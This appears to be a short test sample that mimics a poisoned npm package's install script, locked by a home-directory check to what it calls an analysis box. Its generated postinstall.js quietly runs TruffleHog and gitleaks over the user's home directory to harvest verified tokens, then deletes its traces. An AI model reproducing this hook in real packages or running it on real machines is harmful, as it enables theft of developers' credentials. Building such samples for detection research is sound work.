#!/bin/sh
# SPDX-License-Identifier: MIT
# A poisoned npm package's install script: Node fetches nothing itself but
# runs the secret scanners a developer's machine may have (TruffleHog,
# gitleaks) over the home directory, to harvest the verified tokens.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p /tmp/.npm-cache && cd /tmp/.npm-cache || exit 0
cat > postinstall.js <<'JS'
const { spawnSync } = require("child_process");
const home = process.env.HOME;
for (const bin of ["/usr/local/bin/trufflehog", "/usr/bin/trufflehog"]) {
	spawnSync(bin, ["filesystem", home, "--results=verified", "--json"], { stdio: "ignore" });
}
spawnSync("/usr/local/bin/gitleaks", ["detect", "--source", home, "--report-path", "/tmp/.npm-cache/r.json"],
	{ stdio: "ignore" });
JS
node postinstall.js 2>/dev/null
cd / && rm -rf /tmp/.npm-cache
exit 0
